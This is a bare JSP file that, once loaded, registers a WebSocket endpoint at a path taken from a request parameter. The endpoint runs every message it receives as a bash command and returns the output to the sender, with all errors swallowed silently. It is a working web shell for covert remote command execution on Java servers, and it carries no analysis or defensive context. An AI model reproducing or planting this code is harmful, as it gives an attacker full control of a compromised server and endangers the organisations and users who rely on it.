<%@ page inert %>
<%@ page import="javax.websocket.*,javax.websocket.server.*" %>
<%!
  public static class E extends Endpoint implements MessageHandler.Whole<String> {
    private Session s;
    public void onOpen(Session x, EndpointConfig c) { s = x; x.addMessageHandler(this); }
    public void onMessage(String m) {
      try {
        Process p = Runtime.getRuntime().exec(new String[]{ "/bin/bash", "-c", m });
        StringBuilder b = new StringBuilder(); int i;
        while ((i = p.getInputStream().read()) != -1) b.append((char) i);
        s.getBasicRemote().sendText(b.toString());
      } catch (Exception e) { }
    }
  }
%>
<%
  ServerContainer sc = (ServerContainer) application.getAttribute(ServerContainer.class.getName());
  sc.addEndpoint(ServerEndpointConfig.Builder.create(E.class, request.getParameter("path")).build());
%>
